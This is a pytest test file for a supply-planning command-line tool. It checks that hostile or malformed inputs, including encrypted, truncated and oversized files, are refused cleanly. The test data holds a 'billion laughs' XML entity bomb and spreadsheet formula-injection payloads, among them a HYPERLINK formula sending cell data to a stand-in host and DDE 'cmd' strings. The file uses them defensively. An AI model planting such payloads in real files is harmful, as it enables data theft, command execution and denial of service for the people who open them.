"""Hostile and broken inputs (issue 11): one test per class, through the command line and the files.

Every case: exit 0, 2 or 3 for anything in an input file (1 only outside it), no traceback, the input
unchanged, and no output file unless the run succeeded.
"""
import hashlib
import json
import os
import re
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

import planner.inputs
import planner.outputs
import planner.workbook
from planner.cli import cli
from tests.conftest import write_input
from tests.test_validation import VALID

def run_cli(*args):
    """Run `reeplan ARGS` in this process; an exception other than SystemExit is a bug."""
    result = CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=True)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


def digest(path: Path) -> dict[str, str]:
    files = sorted(path.rglob("*")) if path.is_dir() else [path]
    return {str(f): hashlib.sha256(f.read_bytes()).hexdigest() for f in files if f.is_file()}


def files_in(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


@pytest.fixture
def plan(tmp_path, monkeypatch):
    """A valid CSV folder `plan/` in the current directory (tmp_path)."""
    monkeypatch.chdir(tmp_path)
    return write_input(tmp_path / "plan", VALID)


# ---------------------------------------------------------------- input overwritten, result lost

@pytest.mark.parametrize("args", [
    ["--json", "plan/Demand.csv"],
    ["-o", "plan/Supply.csv"],
    ["-o", "plan/supply.CSV"],  # any case of a sheet's name is read as that sheet
    ["--json", "./plan/../plan/Demand.csv"],
    ["--json", "plan/Scenarios.csv"],  # not there yet, but would be read as input next time
    ["-o", "link.xlsx"],  # a symlink to an input file
    ["-o", "plan"],  # the input folder itself
])
def test_no_output_over_an_input_file(plan, tmp_path, args):
    (tmp_path / "link.xlsx").symlink_to(plan / "Demand.csv")
    before, listing = digest(plan), files_in(tmp_path)
    done = run_cli("solve", plan, *args)
    assert done.exit_code == 2, done.output
    assert str(Path(args[1])) in done.stderr and "Traceback" not in done.output
    assert digest(plan) == before and files_in(tmp_path) == listing


def test_no_output_over_a_hard_link_to_a_workbook_input(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert run_cli("template", "in.xlsx").exit_code == 0
    os.link(tmp_path / "in.xlsx", tmp_path / "same.json")
    before = digest(tmp_path / "in.xlsx")
    done = run_cli("solve", "in.xlsx", "--json", "same.json")
    assert done.exit_code == 2 and "is the input file in.xlsx" in done.stderr
    assert digest(tmp_path / "in.xlsx") == before and not (tmp_path / "results").exists()


@pytest.mark.parametrize("json_path", ["same.xlsx", "./sub/../same.xlsx"])
def test_two_outputs_to_one_file_are_refused(plan, tmp_path, json_path):
    done = run_cli("solve", plan, "-o", "same.xlsx", "--json", json_path)
    assert done.exit_code == 2
    assert "the file must end in .json" in done.stderr  # a workbook name for the JSON is refused outright
    assert not (tmp_path / "same.xlsx").exists()


def test_two_outputs_to_one_file_through_a_link_are_refused(plan, tmp_path):
    (tmp_path / "same.json").symlink_to(tmp_path / "same.xlsx")
    done = run_cli("solve", plan, "-o", "same.xlsx", "--json", "same.json")
    assert done.exit_code == 2
    assert "--json same.json: is also the -o output same.xlsx" in done.stderr
    assert not (tmp_path / "same.xlsx").exists()


def test_template_never_writes_over_the_data_it_copies(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    bundled = write_input(tmp_path / "bundled", VALID)
    monkeypatch.setattr(planner.inputs, "bundled_input", lambda: bundled)
    before = digest(bundled)
    done = run_cli("template", bundled / "Periods.csv")
    assert done.exit_code == 2 and digest(bundled) == before


# ---------------------------------------------------------------- all or nothing

def test_unwritable_json_path_leaves_nothing_behind(plan, tmp_path):
    (tmp_path / "afile").write_text("x")
    listing = files_in(tmp_path)
    done = run_cli("solve", plan, "-o", "out.xlsx", "--json", "afile/out.json")
    assert done.exit_code == 1  # not the input's fault: a failure outside it
    assert done.stderr.strip().splitlines() == ["error: cannot write afile/out.json: afile is not a folder "
                                                "(nothing was written)"]
    assert files_in(tmp_path) == listing


def test_failure_while_writing_removes_every_output(plan, tmp_path, monkeypatch):
    def full_disk(payload, target):
        with planner.outputs.staged(target) as tmp:
            tmp.write_text("{")
            raise OSError(28, "No space left on device")
    monkeypatch.setattr(planner.workbook, "write_json", full_disk)
    (tmp_path / "old.json").write_bytes(b"an earlier result")
    listing = files_in(tmp_path)
    done = run_cli("solve", plan, "-o", "results/new/out.xlsx", "--json", "old.json")
    assert done.exit_code == 1
    assert "cannot write old.json: No space left on device" in done.stderr and "Traceback" not in done.output
    assert (tmp_path / "old.json").read_bytes() == b"an earlier result"  # earlier files untouched
    assert files_in(tmp_path) == listing  # temporaries and the folders made for them are gone


def test_outputs_are_readable_as_the_umask_allows(plan, tmp_path):
    old = os.umask(0o022)
    try:
        done = run_cli("solve", plan, "-o", "out.xlsx", "--json", "out.json")
    finally:
        os.umask(old)
    assert done.exit_code == 0, done.output
    for name in ("out.xlsx", "out.json"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o644
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary file left


# ---------------------------------------------------------------- unreadable workbooks

def xlsx_of(sheets: dict[str, list[dict]], path: Path) -> Path:
    """The sheets as an .xlsx written by a program (openpyxl), one sheet per table."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        columns = list(dict.fromkeys(k for r in rows for k in r))
        ws.append(columns)
        for r in rows:
            ws.append([r.get(c) for c in columns])
    wb.save(path)
    return path


def rewrite_member(path: Path, member: str, change) -> Path:
    """Rewrite one part of an .xlsx (a zip of XML parts) with `change(bytes) -> bytes`."""
    parts = {}
    with zipfile.ZipFile(path) as z:
        for info in z.infolist():
            parts[info.filename] = z.read(info.filename)
    parts[member] = change(parts[member])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


LAUGHS = '<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i} "{("&lol;" if i == 1 else f"&lol{i - 1};") * 10}">' for i in range(1, 10))


def entity_bomb(path: Path) -> Path:
    """A billion laughs: 10^9 × 'lol' once the entities of the Periods sheet are expanded."""
    return rewrite_member(path, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(
        b"<worksheet", f"<!DOCTYPE worksheet [{LAUGHS}]><worksheet".encode(), 1).replace(
        b"<t>period</t>", b"<t>&lol9;</t>"))


def encrypted(path: Path) -> Path:
    path.write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + bytes(4088))  # what Excel saves with a password
    return path


def truncated(path: Path) -> Path:
    data = path.read_bytes()
    path.write_bytes(data[:len(data) // 2])
    return path


@pytest.mark.parametrize("spoil, message", [
    (encrypted, "password-protected or encrypted workbook: remove the password in Excel and save again as .xlsx"),
    (truncated, "cannot be read as .xlsx (the file is damaged or truncated"),
    (entity_bomb, "contains XML entity or DTD declarations"),
])
@pytest.mark.parametrize("command", [["solve"], ["validate"], ["validate", "--report", "report.xlsx"]])
def test_unreadable_workbooks_are_named_as_such(tmp_path, monkeypatch, spoil, message, command):
    monkeypatch.chdir(tmp_path)
    path = spoil(xlsx_of(VALID, tmp_path / "in.xlsx"))
    before, listing = digest(path), files_in(tmp_path)
    started = time.perf_counter()
    done = run_cli(command[0], path, *command[1:])
    assert time.perf_counter() - started < 10  # the billion laughs are refused, not expanded
    assert done.exit_code == 2 and "Traceback" not in done.output
    assert f"in.xlsx: {message}" in done.stderr
    assert digest(path) == before and files_in(tmp_path) == listing


# ---------------------------------------------------------------- wrong plan, silently: CSV syntax and duplicates

def solve_fails(*args, expect):
    """Run `solve ARGS` (the input is args[0]); exit 2 naming the problem, input untouched, nothing written."""
    inp = Path(args[0])
    before, listing = digest(inp), files_in(Path.cwd())
    done = run_cli("solve", *args, "--json", "out.json")
    assert done.exit_code == 2, done.output
    assert expect in done.stderr, done.stderr
    assert "Traceback" not in done.output
    assert digest(inp) == before and files_in(Path.cwd()) == listing
    return done


DEMAND_HEADER = "sector,material,period,demand_t,notes\n"


@pytest.mark.parametrize("body, expect", [
    # the quote of line 2 is never closed: the rest of the file would become one notes cell
    ('EV,Dy oxide,2026,30,"too few\nEV,Dy oxide,2027,40,ok\n',
     "Demand.csv line 2: a quote opened here is never closed — the rest of the file would be read as one cell"),
    # ... or closed by the opening quote of a later cell
    ('EV,Dy oxide,2026,30,"too few\nEV,Dy oxide,2027,40,"ok"\n',
     "Demand.csv line 3: ',' expected after '\"': check the quotes (the quoted cell begun on line 2 runs to here"),
    # a stray comma: 40 would be read as the notes and "5" as the demand of nothing
    ("EV,Dy oxide,2026,30,fine\nEV,Dy oxide,2027,4,0,typo\n",
     "Demand.csv line 3: 6 cells but the header names 5 columns: a stray comma shifts the values that follow"),
])
def test_malformed_csv_is_located_not_guessed(plan, body, expect):
    (plan / "Demand.csv").write_text(DEMAND_HEADER + body)
    solve_fails(plan, expect=expect)


def test_blank_cells_beyond_the_header_are_fine(plan):
    (plan / "Demand.csv").write_text(DEMAND_HEADER + "EV,Dy oxide,*,30,fine,,\n")
    assert run_cli("solve", plan, "-o", "out.xlsx").exit_code == 0


def test_two_sheets_with_one_normalised_name_are_refused(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    sheets = dict(VALID, **{"demand ": [dict(VALID["Demand"][0], demand_t=999)]})
    solve_fails(xlsx_of(sheets, tmp_path / "in.xlsx"),
                expect="Demand: sheets 'Demand' and 'demand ' are both read as Demand")


def test_two_csv_files_with_one_normalised_name_are_refused(plan):
    (plan / "demand.csv").write_text(DEMAND_HEADER + "EV,Dy oxide,*,999,\n")
    solve_fails(plan, expect="Demand: files Demand.csv and demand.csv are both read as Demand")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_column_twice_on_a_sheet_is_refused(plan, tmp_path, kind):
    rows = [{"sector": "EV", "material": "Dy oxide", "period": "*", "demand_t": 30, "Demand_T ": 999}]
    sheets = dict(VALID, Demand=rows)
    inp = write_input(tmp_path / "dup", sheets) if kind == "csv" else xlsx_of(sheets, tmp_path / "dup.xlsx")
    solve_fails(inp, expect="Demand row 1, column demand_t: appears twice (columns D and E): keep one")


# ---------------------------------------------------------------- encodings

def test_windows_1252_csv_is_read_with_a_warning_naming_it(plan, tmp_path):
    (plan / "Sectors.csv").write_bytes("sector,shortfall_penalty,accepts_controlled\ndéfense,5000000,FALSE\n"
                                       "Véhicules,300000,TRUE\n".encode("cp1252"))
    (plan / "Demand.csv").write_text(DEMAND_HEADER + "véhicules,Dy oxide,*,30,\n", encoding="utf-8")
    done = run_cli("solve", plan, "-o", "out.xlsx", "--json", "out.json")
    assert done.exit_code == 0, done.output
    assert "warning: Sectors.csv: not UTF-8: read as Windows-1252" in done.stderr
    assert {r["sector"] for r in json.loads((tmp_path / "out.json").read_text())["shortfall"]} == {"Véhicules"}


def test_utf8_with_byte_order_mark_is_read_silently(plan, tmp_path):
    (plan / "Demand.csv").write_bytes(b"\xef\xbb\xbf" + (DEMAND_HEADER + "EV,Dy oxide,*,30,\n").encode())
    done = run_cli("solve", plan, "-o", "out.xlsx")
    assert done.exit_code == 0 and "warning" not in done.stderr


@pytest.mark.parametrize("data, expect", [
    ((DEMAND_HEADER + "EV,Dy oxide,*,30,\n").encode("utf-16"), "Demand.csv: is UTF-16 text or not text at all"),
    ((DEMAND_HEADER + "EV,Dy oxide,*,30,\x81\n").encode("latin-1"),
     "Demand.csv line 2: byte 0x81 is neither UTF-8 nor Windows-1252 text"),
])
def test_text_that_is_neither_utf8_nor_windows_1252_is_refused_naming_the_file(plan, data, expect):
    (plan / "Demand.csv").write_bytes(data)
    solve_fails(plan, expect=expect)


# ---------------------------------------------------------------- numbers: finite, within ±1e12, located

BEYOND = "is beyond ±1e+12, the largest magnitude reeplan accepts"


NUMBER_CASES = [
    ("Demand", {"demand_t": 1e20}, f"Demand row 2, column demand_t: 1e+20 {BEYOND}"),  # HiGHS's infinity
    ("Supply", {"price": -2e12}, f"Supply row 2, column price: -2e+12 {BEYOND}"),
    ("Stockpiles", {"max_level_t": 1e15}, f"Stockpiles row 2, column max_level_t: 1e+15 {BEYOND} (leave the cell "
                                           "blank for no limit)"),
]
TEXT_CASES = [  # text a program would not put in a workbook's numeric cell: CSV only
    ("Demand", {"demand_t": "1E13"}, f"Demand row 2, column demand_t: 1e+13 {BEYOND}"),
    ("Supply", {"capacity_t": "1" * 400}, "Supply row 2, column capacity_t: " + "1" * 400 + " is infinite"),
    ("Sources", {"source": "Chi\x01na"}, "Sources row 2, column source: contains the control character U+0001"),
]


@pytest.mark.parametrize("sheet, cells, expect, kind", [case + (kind,) for case in NUMBER_CASES for kind in
                                                        ("csv", "xlsx")] + [case + ("csv",) for case in TEXT_CASES])
def test_numbers_beyond_the_documented_magnitude_are_located(plan, tmp_path, sheet, cells, expect, kind):
    sheets = dict(VALID, Stockpiles=[{"stockpile": "NDS", "material": "Dy oxide", "initial_t": 5}])
    sheets[sheet] = [dict(sheets[sheet][0], **cells)] + sheets[sheet][1:]
    inp = write_input(tmp_path / "in", sheets) if kind == "csv" else xlsx_of(sheets, tmp_path / "in.xlsx")
    solve_fails(inp, expect=expect)


def test_scenario_overrides_stay_within_the_magnitude(plan):
    (plan / "Scenarios.csv").write_text("scenario\nsurge\n")
    (plan / "Overrides.csv").write_text("scenario,sheet,column,operation,value\nsurge,Demand,demand_t,scale,1e11\n")
    solve_fails(plan, "--scenario", "surge", expect=f"Overrides row 2, column value: makes demand_t invalid: 3e+12 {BEYOND}")


def test_a_discount_rate_near_minus_one_cannot_reach_the_solver_infinity(plan):
    (plan / "Settings.csv").write_text("key,value\ndiscount_rate,-0.99999999\n")
    solve_fails(plan, expect="Settings row 2, column value: discount_rate makes discount factors above 1e+06")


@pytest.mark.parametrize("written, expect", [
    (b"NaN", "Demand row 2, column demand_t: NaN ('not a number', as a program may write it) is not a value"),
    (b"INF", "Demand row 2, column demand_t: inf is infinite; expected a finite number"),
    (b"12abc", "Demand row 2, column demand_t: '12abc' is not a number"),
])
def test_non_finite_numeric_cells_written_by_a_program_are_located(tmp_path, monkeypatch, written, expect):
    monkeypatch.chdir(tmp_path)
    path = xlsx_of(VALID, tmp_path / "in.xlsx")
    demand = f"xl/worksheets/sheet{list(VALID).index('Demand') + 1}.xml"
    rewrite_member(path, demand, lambda xml: xml.replace(b'<c r="D2" t="n"><v>30</v>',
                                                         b'<c r="D2" t="n"><v>' + written + b"</v>"))
    solve_fails(path, expect=expect)


# ---------------------------------------------------------------- formula injection: user text stays text

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"help")', "=cmd|' /C calc'!A0",
            "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]


def with_payloads() -> dict[str, list[dict]]:
    """VALID with names, a setting and a column header that a spreadsheet would run as formulas."""
    rename = {"MP": PAYLOADS[0], "NdPr oxide": PAYLOADS[1], "EV": PAYLOADS[2]}
    sheets = {name: [{k: rename.get(v, v) if isinstance(v, str) else v for k, v in r.items()} for r in rows]
              for name, rows in VALID.items()}
    sheets["Sectors"] = [dict(r, **{PAYLOADS[1]: "x"}) for r in sheets["Sectors"]]  # an unknown column
    sheets["Settings"] = [{"key": "name", "value": PAYLOADS[3]}, {"key": "currency", "value": PAYLOADS[4]}]
    return sheets


def formula_cells(path: Path) -> set[tuple[str, str]]:
    """(sheet, cell) of every formula in a written workbook, checked in the file itself: no formula
    element in the sheet XML may hold a payload, and openpyxl may read no other formula."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert not any(marker in f for f in re.findall(r"<f[ >].*?</f>", xml, re.S)
                               for marker in ("HYPERLINK", "cmd|", "SUM(")), name
    wb = openpyxl.load_workbook(path)
    return {(ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"}


def test_names_that_look_like_formulas_are_written_as_text(plan, tmp_path):
    inp = write_input(tmp_path / "evil", with_payloads())
    done = run_cli("solve", inp, "-o", "result.xlsx", "--json", "result.json")
    assert done.exit_code == 0, done.output
    assert formula_cells(tmp_path / "result.xlsx") == set()
    procurement = openpyxl.load_workbook(tmp_path / "result.xlsx")["Procurement"]
    assert PAYLOADS[0] in [c.value for c in procurement["A"]]  # the name, shown as written
    done = run_cli("validate", inp, "--report", "report.xlsx")
    assert done.exit_code == 0, done.output
    assert formula_cells(tmp_path / "report.xlsx") == set()


def test_validation_report_of_a_workbook_keeps_only_the_planners_own_formulas(plan, tmp_path):
    path = xlsx_of(with_payloads(), tmp_path / "evil.xlsx")
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    c.data_type = "s"  # the payloads are text in the input, as a planner would type '=…
    wb["Supply"]["D2"] = "=2*25"  # a formula of the planner's own (never computed: an error to report)
    wb.save(path)
    done = run_cli("validate", path, "--report", "report.xlsx")
    assert done.exit_code == 2 and "Supply row 2, column capacity_t: formula =2*25 has no saved value" in done.stderr
    assert formula_cells(tmp_path / "report.xlsx") == {("Supply", "D2")}


# ---------------------------------------------------------------- a console that cannot encode a name

@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_a_console_that_cannot_encode_a_name_does_not_fail_the_run(tmp_path, encoding):
    rename = {"China": "中国", "EV": "电动车"}
    sheets = {name: [{k: rename.get(v, v) for k, v in r.items()} for r in rows] for name, rows in VALID.items()}
    sheets["Demand"] = [dict(sheets["Demand"][0], demand_t=60, 备注="x")]  # the licence binds; an unknown column
    inp = write_input(tmp_path / "plan", sheets)
    done = subprocess.run([sys.executable, "-m", "planner", "solve", str(inp), "-o", "out.xlsx", "--json", "out.json"],
                          cwd=tmp_path, capture_output=True, env=dict(os.environ, PYTHONIOENCODING=encoding))
    stdout, stderr = done.stdout.decode("utf-8", "replace"), done.stderr.decode("utf-8", "replace")
    assert done.returncode == 0, stderr
    assert "Traceback" not in stderr and "warning: Demand row 1, column " in stderr
    assert "Dy oxide" in stdout and "written: out.xlsx" in stdout
    assert (tmp_path / "out.xlsx").exists() and (tmp_path / "out.json").exists()
